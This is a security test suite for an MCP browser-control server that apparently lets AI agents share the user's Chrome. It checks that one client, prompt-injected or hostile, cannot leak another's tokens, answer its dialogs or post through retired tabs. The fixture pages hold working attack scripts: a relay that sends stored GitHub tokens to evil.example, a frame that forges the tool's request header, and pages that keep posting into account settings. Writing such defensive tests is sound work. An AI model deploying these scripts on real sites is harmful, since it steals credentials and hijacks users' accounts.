// Attacks on several MCP clients of one `tabward mcp --http --mode shared` in the user's Chrome, second review
// (after each gate began judging only its own tagged requests, ClientTabs.beginOpening and the one profile taint):
// a taint that does not reach a client (one that joins after the read, one that switches in from the isolated
// browser, a read shown from the user's own tab), a typed secret held in another client's tab, a popup of a
// client's cross-site frame, a dialog open in another client's tab, a page forging tabward's request header,
// tabward's tokens reaching a site past two gates, and a retired tab outliving its client. The real CLI, real SDK
// clients, a real Chromium as the user's.

import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import type { QuestionView } from '../../src/approval/inboxSocket.ts';
import { connectCdp } from '../../src/browser/connect.ts';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { inboxOf } from '../helpers/approvalInbox.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { type Connected, clientsOf, startMcpHttp, stopAll } from '../helpers/mcpHttpClients.ts';
import type { RunningTabward } from '../helpers/tabwardProcess.ts';
import { waitFor } from '../helpers/waitFor.ts';

const secret = 'ghp_clientsChrome_7734';
const typed = 'typed-stash-value-4412';

interface AuditRecord {
  session?: string;
  tool?: string;
  url?: string;
  reason?: string;
  outcome?: string;
  args?: { url?: string };
}

function auditOf(home: string): AuditRecord[] {
  return readFileSync(join(home, 'audit.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as AuditRecord);
}

const sleep = (ms: number) => new Promise((done) => setTimeout(done, ms));

/**
 * The human at `tabward approvals` for the length of a test: approves the questions `approve` names, rejects every
 * other (a held request, a question the attack set off), so that none waits out --approval-wait.
 */
function humanAnswering(home: string, approve: (question: QuestionView) => boolean) {
  const human = inboxOf(home);
  const asked: QuestionView[] = [];
  const answered = new Set<string>();
  let on = true;
  const loop = (async () => {
    while (on) {
      for (const question of await human.questions().catch(() => [] as QuestionView[])) {
        if (answered.has(question.id)) continue;
        answered.add(question.id);
        asked.push(question);
        await human.answer(question.id, approve(question) ? 'approve' : 'reject').catch(() => undefined);
      }
      await sleep(100);
    }
  })();
  return {
    asked,
    stop: async () => {
      on = false;
      await loop;
    },
  };
}

/** Script that posts into GitHub's settings every 150 ms from 3 s after it starts, each body tagged `tag`. */
function retiredPosts(tag: string, port: number): string {
  return `const started = Date.now(); let n = 0; setInterval(() => { if (Date.now() - started < 3000) return; fetch('https://github.com:${port}/settings/emails', { method: 'POST', mode: 'no-cors', body: 'email=retired-${tag}-' + ++n + '%40evil.example' }).catch(() => {}); }, 150);`;
}

describe("attacks across clients in the user's Chrome, second review", { timeout: 600_000 }, () => {
  let site: Fixture;
  let chrome: UserChrome;
  let tabward: RunningTabward | undefined;
  let home = '';
  let open: Connected[] = [];
  /** Every value of x-tabward-request a site was sent. */
  const tagsSeen: string[] = [];
  const noteTag = (req: IncomingMessage) => {
    const tag = req.headers['x-tabward-request'];
    if (tag !== undefined) tagsSeen.push(String(tag));
  };
  const { connect, call, leave } = clientsOf(() => {
    if (!tabward) throw new Error('tabward is not running');
    return tabward;
  }, open);

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${secret}</p>`),
        'POST /settings/emails': (_req, _body, res) => html(res, '<title>Added</title>'),
        // A page of the sensitive site (not itself sensitive) that fetches the token page and keeps what it got in
        // the profile's storage, under the key its query names.
        '/repo-bc': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p id="out">loading</p><script>const key = new URLSearchParams(location.search).get('key'); fetch('/settings/tokens').then((r) => r.text()).then((t) => { const got = t.replace(/<[^>]+>/g, ' ').trim(); out.textContent = got; localStorage.setItem(key, got); })</script>`,
          ),
        // Another page of the same site: it sends whatever the storage holds under its key to evil.example.
        '/relay': (_req, _body, res) =>
          html(
            res,
            `<title>Relay</title><p>public page</p><script>const key = new URLSearchParams(location.search).get('key'); const out = (t) => fetch('https://evil.example:' + location.port + '/collect?' + key + '=' + encodeURIComponent(t), { mode: 'no-cors' }).catch(() => {}); out('alive'); setInterval(() => { const v = localStorage.getItem(key); if (v) out('ls:' + v); }, 200);</script>`,
          ),
        // A page of the sensitive site that keeps its fragment, and what is typed in its field, in storage.
        '/stash': (_req, _body, res) =>
          html(
            res,
            `<title>Stash</title><label>Note <input id="note"></label><script>const key = new URLSearchParams(location.search).get('key'); if (location.hash.length > 1) localStorage.setItem(key, decodeURIComponent(location.hash.slice(1))); note.addEventListener('input', () => localStorage.setItem(key, note.value));</script>`,
          ),
        '/collect': (_req, _body, res) => html(res, '<title>Collected</title><p>ok</p>'),
        // A page of A's embedding a cross-site frame that opens popups by itself.
        '/framer': (_req, _body, res) =>
          html(res, `<title>Framer</title><iframe src="https://c.example:${site.port}/popper"></iframe>`),
        '/popper': (_req, _body, res) =>
          html(
            res,
            `<title>Popper</title><script>let n = 0; const t = setInterval(() => { n++; window.open('https://c.example:' + location.port + '/child?n=' + n, '_blank', n % 2 ? '' : 'noopener'); if (n >= 10) clearInterval(t); }, 40)</script>`,
          ),
        '/child': (_req, _body, res) => html(res, `<title>Child</title><p>A's frame's popup</p>`),
        // A page that asks a question of its own; its answer, if yes, goes to /accepted.
        '/dialog': (_req, _body, res) =>
          html(
            res,
            `<title>Dialog</title><p>asks</p><script>setTimeout(() => { if (confirm('Delete everything?')) fetch('/accepted'); else fetch('/dismissed'); }, 300)</script>`,
          ),
        '/accepted': (_req, _body, res) => html(res, '<title>Accepted</title>'),
        '/dismissed': (_req, _body, res) => html(res, '<title>Dismissed</title>'),
        // A page of A's with a github.com frame that forges tabward's header: on its requests, and on a keepalive
        // POST into a sensitive page as the parent removes it, once five forged requests were answered (a fixed
        // delay removed the frame before it had loaded on a loaded CI host).
        '/forger': (_req, _body, res) =>
          html(
            res,
            `<title>Forger</title><script>addEventListener('message', (event) => { if (event.data === 'sent') document.getElementById('f').remove(); })</script><iframe id="f" src="https://github.com:${site.port}/forged-frame"></iframe>`,
          ),
        '/forged-frame': (_req, _body, res) =>
          html(
            res,
            `<title>Forged</title><script>const forged = () => ({ 'x-tabward-request': Array.from(crypto.getRandomValues(new Uint8Array(20)), (b) => b.toString(16).padStart(2, '0')).join('') }); let sent = 0; setInterval(() => { fetch('/echo?forged', { headers: forged() }).then(() => { if (++sent === 5) parent.postMessage('sent', '*'); }, () => {}); fetch('/echo?plain').catch(() => {}); }, 100); addEventListener('pagehide', () => { fetch('/settings/emails', { method: 'POST', keepalive: true, headers: forged(), body: 'email=forged%40evil.example' }); });</script>`,
          ),
        '/echo': (req, _body, res) => {
          noteTag(req);
          html(res, '<title>Echo</title>');
        },
        '/b': (_req, _body, res) => html(res, '<title>B</title><p>Client B was here</p>'),
        '/mine': (_req, _body, res) => html(res, '<title>Mine</title><p>The user reads this</p>'),
        // A page of A's that gets its tab retired (a cross-site frame alerts, the page removes the frame while the
        // alert is open: tabward stops the tab's scripts and never touches it again), and that posts into a
        // sensitive page every 150 ms from 3 s after it loaded, if its scripts run then.
        // Posts into GitHub's settings every 150 ms from 3 s after load: from the page itself, and with `poster`,
        // from a dedicated worker or a cross-site frame of its own as well.
        '/retire-host': (req, _body, res) => {
          const query = new URL(req.url ?? '/', 'https://a.example').searchParams;
          const tag = query.get('tag') ?? '';
          const poster = query.get('poster');
          const posts = retiredPosts(tag, site.port);
          // The worker's or frame's own posts say so in their tag.
          const extra =
            poster === 'worker'
              ? `<script>new Worker(URL.createObjectURL(new Blob([${JSON.stringify(retiredPosts(`${tag}-by-${poster}`, site.port))}], { type: 'text/javascript' })));</script>`
              : poster === 'frame'
                ? `<iframe src="https://d.example:${site.port}/retire-poster?tag=${tag}-by-${poster}"></iframe>`
                : '';
          html(
            res,
            // The listener comes before the frame: a frame loaded before the page's script ran (seen under load) would
            // alert with nobody left to remove it.
            `<title>Retiring</title><script>addEventListener('message', (event) => { if (event.data === 'alerting') setTimeout(() => document.querySelector('#alerting').remove(), 1000); });</script><iframe id="alerting" src="https://c.example:${site.port}/alerting"></iframe>${extra}<script>${posts}</script>`,
          );
        },
        '/retire-poster': (req, _body, res) =>
          html(
            res,
            `<p>poster</p><script>${retiredPosts(new URL(req.url ?? '/', 'https://d.example').searchParams.get('tag') ?? '', site.port)}</script>`,
          ),
        '/alerting': (_req, _body, res) =>
          html(
            res,
            // A dialog the browser dismisses itself returns: the frame says so (see the retired-tab tests).
            `<p>frame</p><script>parent.postMessage('alerting', '*'); setTimeout(() => { alert('from a frame'); fetch('/alert-returned'); }, 50);</script>`,
          ),
      },
      { tls: true },
    );
    chrome = await startUserChrome({
      chromeArgs: [...testChromeArgs, '--disable-popup-blocking'],
      // The user's own tab; the test of a read shown from the user's tab opens their token page beside it (listing
      // a sensitive tab's title is a read, which in one profile taints every client: the other tests would be too).
      openTab: site.url('mine.example', '/mine'),
    });
  });

  // A tabward of its own for each test: the one profile taint lives as long as the process.
  const startTabward = () =>
    startMcpHttp(
      [
        '--mode',
        'shared',
        '--ws-endpoint',
        chrome.wsEndpoint,
        '--approval',
        'inbox',
        '--no-notify',
        '--secrets',
        join(home, 'secrets.env'),
      ],
      home,
    );
  beforeEach(async () => {
    home = mkdtempSync(join(tmpdir(), 'tabward-attack-clients-chrome2-'));
    writeFileSync(join(home, 'secrets.env'), `STASH_SECRET@${site.url('github.com', '')}=${typed}\n`, {
      mode: 0o600,
    });
    open = [];
    tabward = await startTabward();
  });
  afterEach(async () => {
    await stopAll(tabward, open);
    tabward = undefined;
    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });
  after(async () => {
    await chrome?.close();
    await site?.close();
  });

  const collected = (from: number, key: string) =>
    site.seen
      .slice(from)
      .filter((seen) => seen.path.startsWith(`/collect?${key}=`))
      .map((seen) => decodeURIComponent(seen.path));

  test('a client that joins after another client read a sensitive page (and left) is tainted by that read (the storage outlives both)', async () => {
    const from = site.seen.length;
    const human = humanAnswering(home, () => false);
    const a = await connect('reader');
    await call(a.client, 'new_page', { url: site.url('github.com', '/repo-bc?key=k1') });
    await waitFor('A to see the token', async () =>
      (await call(a.client, 'take_snapshot')).text.includes(secret),
    );
    // The reader goes (its tabs close; the storage stays). A newcomer opens a page of the same site, which finds
    // the token in the profile's storage.
    await leave(a);
    const c = await connect('newcomer');
    await call(c.client, 'new_page', { url: site.url('github.com', '/relay?key=k1') });
    await sleep(2_000);
    const leaked = collected(from, 'k1').filter((path) => path.includes('ghp_'));
    assert.deepEqual(leaked.slice(0, 3), [], "A's read left through a client that joined after it");
    await human.stop();
    await leave(c);
  });

  test("a client that switches into the user's Chrome (browser_connect) after another's read is tainted by it", async () => {
    const from = site.seen.length;
    const human = humanAnswering(home, (question) => question.tool === 'browser_connect');
    const b = await connect('switcher');
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    const away = await call(b.client, 'browser_disconnect');
    assert.equal(away.isError, false, away.text);
    const a = await connect('reader');
    await call(a.client, 'new_page', { url: site.url('github.com', '/repo-bc?key=k2') });
    await waitFor('A to see the token', async () =>
      (await call(a.client, 'take_snapshot')).text.includes(secret),
    );
    const back = await call(b.client, 'browser_connect', { wsEndpoint: chrome.wsEndpoint });
    assert.equal(back.isError, false, back.text);
    await call(b.client, 'new_page', { url: site.url('github.com', '/relay?key=k2') });
    await sleep(2_000);
    const leaked = collected(from, 'k2').filter((path) => path.includes('ghp_'));
    assert.deepEqual(leaked.slice(0, 3), [], "A's read left through a client that switched in after it");
    await human.stop();
    await leave(b);
    await leave(a);
  });

  // Got through before each member's taint view asked the others' (SharedProfileTaint.taintedBesides): the one
  // profile taint was told only of reads the network hooks see go; a sensitive page a result shows from a tab
  // already loaded (the user's own, read with take_snapshot) tainted the reader's GuardState alone.
  test("a sensitive page one client reads in the user's own tab (shown, not loaded) taints the other clients too", async () => {
    const from = site.seen.length;
    const human = humanAnswering(home, () => false);
    // The user opens their token page in a tab of their own.
    const user = await connectCdp(chrome.wsEndpoint, 20_000, () => undefined);
    const tokensTab = await user.contexts()[0]?.newPage();
    await tokensTab?.goto(site.url('github.com', '/settings/tokens'));
    // Closed however the test ends: left open, its title would taint every client of the later tests.
    try {
      const a = await connect('reader');
      const b = await connect('relay');
      await call(b.client, 'new_page', { url: site.url('github.com', '/relay?key=k3') });
      const listed = (await call(a.client, 'list_pages')).text;
      const userTab =
        /\b(p\d+)\b[^\n]*\[user\][^\n]*settings\/tokens|\[user\][^\n]*\b(p\d+)\b[^\n]*settings\/tokens/.exec(
          listed,
        );
      const userTabId = userTab?.[1] ?? userTab?.[2] ?? /\b(p\d+)\b[^\n]*settings\/tokens/.exec(listed)?.[1];
      assert.ok(userTabId, `the user's token tab is listed to A:\n${listed}`);
      const read = await call(a.client, 'take_snapshot', { pageId: userTabId });
      assert.match(read.text, new RegExp(secret), read.text);
      // A (prompt-injected) keeps what it read in the site's storage, with no request leaving the site.
      const stashed = await call(a.client, 'new_page', {
        url: `${site.url('github.com', '/stash?key=k3')}#${secret}`,
      });
      assert.equal(stashed.isError, false, stashed.text);
      await sleep(2_000);
      const leaked = collected(from, 'k3').filter((path) => path.includes('ghp_'));
      await human.stop();
      assert.deepEqual(leaked.slice(0, 3), [], "what A read in the user's tab left through B's tab");
      await leave(b);
      await leave(a);
    } finally {
      await tokensTab?.close();
      await user.close();
    }
  });

  test("a secret typed into one client's tab does not leave through another client's tab of the site; the stop is the other client's", async () => {
    const from = site.seen.length;
    const a = await connect('typist');
    const b = await connect('relay');
    await call(b.client, 'new_page', { url: site.url('github.com', '/relay?key=k4') });
    await call(a.client, 'new_page', { url: site.url('github.com', '/stash?key=k4') });
    const note = refOf((await call(a.client, 'take_snapshot')).text, 'Note');
    // Typing a secret on a page of the sensitive site asks: the human says yes (and no to anything else).
    const human = humanAnswering(home, (question) => question.tool === 'fill');
    const filled = await call(a.client, 'fill', { ref: note, secret: 'STASH_SECRET' });
    assert.equal(filled.isError, false, filled.text);
    await sleep(2_000);
    const sent = collected(from, 'k4');
    assert.ok(sent.includes('/collect?k4=alive'), `B's relay could send before: ${sent.join(' ')}`);
    assert.deepEqual(
      sent.filter((path) => path.includes(typed)).slice(0, 3),
      [],
      "A's typed secret left through B's tab",
    );
    // B's next call is told of its stop; the audit has it in B's session, never A's.
    await call(b.client, 'take_snapshot');
    await call(a.client, 'take_snapshot');
    await human.stop();
    const records = auditOf(home);
    const sessionOf = (url: string) =>
      records.find((record) => record.tool === 'new_page' && record.args?.url === url)?.session;
    const bSession = sessionOf(site.url('github.com', '/relay?key=k4'));
    const aSession = sessionOf(site.url('github.com', '/stash?key=k4'));
    assert.ok(bSession && aSession && bSession !== aSession, `${bSession} ${aSession}`);
    const stops = records.filter((record) => JSON.stringify(record).includes('/collect?k4='));
    for (const stop of stops)
      assert.notEqual(stop.session, aSession, `B's stop in A's session: ${JSON.stringify(stop)}`);
    await leave(b);
    await leave(a);
  });

  test("popups a client's cross-site frame opens by itself are never listed to another client", async () => {
    const a = await connect('framer');
    const b = await connect('watcher');
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    const from = site.seen.length;
    const seen: string[] = [];
    let watchingOn = true;
    const watching = (async () => {
      while (watchingOn) {
        const listed = (await call(b.client, 'list_pages')).text;
        for (const line of listed.split('\n')) if (line.includes('/child')) seen.push(line);
      }
    })();
    await call(a.client, 'new_page', { url: site.url('a.example', '/framer') });
    await waitFor(
      'the popups opened',
      () => site.seen.slice(from).filter((s) => s.path.startsWith('/child')).length >= 10,
      { timeoutMs: 20_000 },
    );
    // Each popup is adopted as it appears (under load, the last ones a while after their request): B keeps
    // looking until A lists them all.
    const popupsOfA = async () => (await call(a.client, 'list_pages')).text;
    await waitFor(
      "A lists its frame's popups",
      async () => ((await popupsOfA()).match(/\[agent\] \S+\/child/g) ?? []).length >= 10,
      { timeoutMs: 20_000 },
    ).catch(() => undefined);
    await sleep(500);
    watchingOn = false;
    await watching;
    const listedA = await popupsOfA();
    assert.equal(
      (listedA.match(/\[agent\] \S+\/child/g) ?? []).length,
      10,
      `A owns its frame's popups:\n${listedA}`,
    );
    assert.deepEqual(seen, [], `B saw A's frame's popups:\n${seen.join('\n')}`);
    await leave(a);
    await leave(b);
  });

  test("a dialog open in one client's tab is never answered, nor its tab closed, by another client", async () => {
    const a = await connect('asked');
    const b = await connect('answerer');
    // A's own answer to its dialog asks: the human says yes to A's, no to anything B's calls ask.
    const human = humanAnswering(home, (question) => question.question.includes('calling itself "asked"'));
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    const from = site.seen.length;
    await call(a.client, 'new_page', { url: site.url('a.example', '/dialog') });
    await sleep(600);
    for (let n = 1; n <= 12; n++) {
      const pageId = `p${n}`;
      // The tabs B may act in (its own, the user's: acting there asks the human) are not the point.
      const listedB = (await call(b.client, 'list_pages')).text;
      if (new RegExp(`\\b${pageId}\\b`).test(listedB)) continue;
      for (const [tool, args] of [
        ['handle_dialog', { action: 'accept', pageId }],
        ['select_page', { pageId }],
        ['upload_file', { pageId, ref: 'e1', paths: ['/etc/hostname'] }],
        ['close_page', { pageId }],
      ] as const) {
        const done = await call(b.client, tool, args);
        assert.doesNotMatch(
          done.text,
          /a\.example|Delete everything/,
          `${tool} ${pageId} from B: ${done.text}`,
        );
      }
    }
    const bare = await call(b.client, 'handle_dialog', { action: 'accept' });
    assert.doesNotMatch(bare.text, /Delete everything/, bare.text);
    assert.equal(
      site.seen.slice(from).some((seen) => seen.path === '/accepted'),
      false,
      "B accepted A's dialog",
    );
    const answered = await call(a.client, 'handle_dialog', { action: 'dismiss' });
    assert.equal(answered.isError, false, `A's dialog is still open for A: ${answered.text}`);
    await waitFor('the page to hear the dismissal', () =>
      site.seen.slice(from).some((seen) => seen.path === '/dismissed'),
    );
    await human.stop();
    await leave(a);
    await leave(b);
  });

  test("a frame forging tabward's header gets no request past either gate; no tabward token reaches a site", async () => {
    const a = await connect('forger');
    const b = await connect('beside');
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    const from = site.seen.length;
    tagsSeen.length = 0;
    await call(a.client, 'new_page', { url: site.url('a.example', '/forger') });
    await waitFor('the frame to send', () =>
      site.seen.slice(from).some((seen) => seen.path === '/echo?forged'),
    );
    await sleep(2_500);
    const echoes = site.seen.slice(from).filter((seen) => seen.path.startsWith('/echo'));
    assert.ok(echoes.length > 0);
    assert.deepEqual(
      site.seen.slice(from).filter((seen) => seen.method === 'POST'),
      [],
      'a forged-header keepalive POST went into the sensitive page',
    );
    assert.deepEqual(tagsSeen, [], 'a value of x-tabward-request reached the site');
    await leave(a);
    await leave(b);
  });

  // A retired tab is dropped from the registry (PageRegistry onRetire), so the client leaving (BrowserSession.closeCurrent,
  // which closes pages.list()) never closes it (closing it would crash Chromium). Its scripts were stopped by
  // Emulation.setScriptExecutionDisabled on the client's own CDP session, which ends with the client's connection:
  // they ran again, with no gate left that knows the tab's frames. Fixed by freezing the page as well
  // (Page.setWebLifecycleState), which outlives the session. Alone, and with another client staying.
  for (const { beside, poster } of [
    { beside: false, poster: undefined },
    { beside: true, poster: undefined },
    { beside: false, poster: 'worker' },
    { beside: false, poster: 'frame' },
  ])
    test(`a client's retired tab (a dialog of a removed frame) sends nothing into a sensitive page after that client left${beside ? ', another client staying' : ' (one client only)'}${poster ? `, a ${poster} of the tab posting too` : ''}`, async () => {
      const tag = beside ? 'beside' : (poster ?? 'alone');
      const human = humanAnswering(home, () => false);
      const a = await connect('retiring');
      const b = beside ? await connect('staying') : undefined;
      if (b) await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
      const from = site.seen.length;
      const opened = await call(a.client, 'new_page', {
        url: site.url('a.example', `/retire-host?tag=${tag}${poster ? `&poster=${poster}` : ''}`),
      });
      const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
      // Chromium sometimes dismisses the frame's alert itself, when another frame of the tab commits in a new
      // process before it is removed (measured: 2 runs in 5 with the posting frame). Then there is no dialog to
      // retire the tab for; that is accepted only when the page shows it (the alert returned) and the tab says so.
      await waitFor(
        'the tab retired, or its dialog dismissed by the browser',
        async () => {
          const snapshot = await call(a.client, 'take_snapshot', { pageId: tab });
          if (snapshot.isError && /retired/.test(snapshot.text)) return snapshot.text;
          const returned = site.seen.slice(from).some((seen) => seen.path === '/alert-returned');
          if (returned && !snapshot.isError) return snapshot.text;
          throw new Error(
            `take_snapshot said: ${snapshot.text.slice(0, 300)}; the alert returned: ${returned}; new_page said: ${opened.text.slice(0, 300)}`,
          );
        },
        { timeoutMs: 15_000, intervalMs: 200 },
      );
      await sleep(3_500);
      const posts = () =>
        site.seen
          .slice(from)
          .filter((seen) => seen.method === 'POST' && seen.body.includes(`retired-${tag}-`))
          .map((seen) => seen.body);
      assert.deepEqual(posts(), [], 'the retired tab posted while its client was here');
      await leave(a);
      await sleep(3_000);
      await human.stop();
      assert.deepEqual(
        posts().slice(0, 3),
        [],
        'the retired tab posted into a sensitive page once its client left',
      );
      if (b) {
        // The earlier tests' retired tabs stay in this Chrome (frozen): only this one's is looked for.
        assert.doesNotMatch((await call(b.client, 'list_pages')).text, /retire-host\?tag=beside/);
        await leave(b);
      }
    });

  // The tab a tabward retired and left (frozen, its dialog open) is one of the user's tabs to the next tabward.
  // Answering its dialog, or navigating or closing the tab, would crash the user's Chrome. Measured: the next
  // tabward is not told of the dialog (Page.enable does not tell a dialog already open), so it says the tab has
  // none, and would let it be navigated or closed. The test stops at that first answer, before anything crashes.
  test('a tab an earlier tabward retired is retired by the next one too: never answered, moved or closed', {
    todo: 'residual: a dialog open before tabward attached is not told to it, so the next tabward cannot know the tab must be left alone',
  }, async () => {
    const first = await connect('first');
    const opened = await call(first.client, 'new_page', {
      url: site.url('a.example', '/retire-host?tag=next'),
    });
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    await waitFor(
      'the tab retired',
      async () => {
        const snapshot = await call(first.client, 'take_snapshot', { pageId: tab });
        if (snapshot.isError && /retired/.test(snapshot.text)) return snapshot.text;
        throw new Error(`take_snapshot said: ${snapshot.text.slice(0, 300)}`);
      },
      { timeoutMs: 15_000, intervalMs: 200 },
    );
    await stopAll(tabward, open);
    open.length = 0;
    // Another tabward, with a home of its own (a home prints its bearer token once, when it makes it).
    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
    home = mkdtempSync(join(tmpdir(), 'tabward-attack-clients-chrome2-'));
    writeFileSync(join(home, 'secrets.env'), '', { mode: 0o600 });
    tabward = await startTabward();
    const human = humanAnswering(home, () => true);
    try {
      const next = await connect('next');
      const listed = (await call(next.client, 'list_pages')).text;
      const line = listed.split('\n').find((each) => each.includes('/retire-host?tag=next'));
      const id = line ? /p\d+/.exec(line)?.[0] : undefined;
      if (id) {
        for (const [tool, args] of [
          ['handle_dialog', { action: 'accept', pageId: id }],
          ['navigate_page', { url: site.url('a.example', '/'), pageId: id }],
          ['close_page', { pageId: id }],
        ] as const) {
          const outcome = await call(next.client, tool, args);
          assert.ok(outcome.isError && /retired/.test(outcome.text), `${tool}: ${outcome.text}`);
        }
      }
      // The user's Chrome is still there, and the user's own tab with it.
      assert.match((await call(next.client, 'list_pages')).text, /mine\.example/);
      await leave(next);
    } finally {
      await human.stop();
    }
  });
});
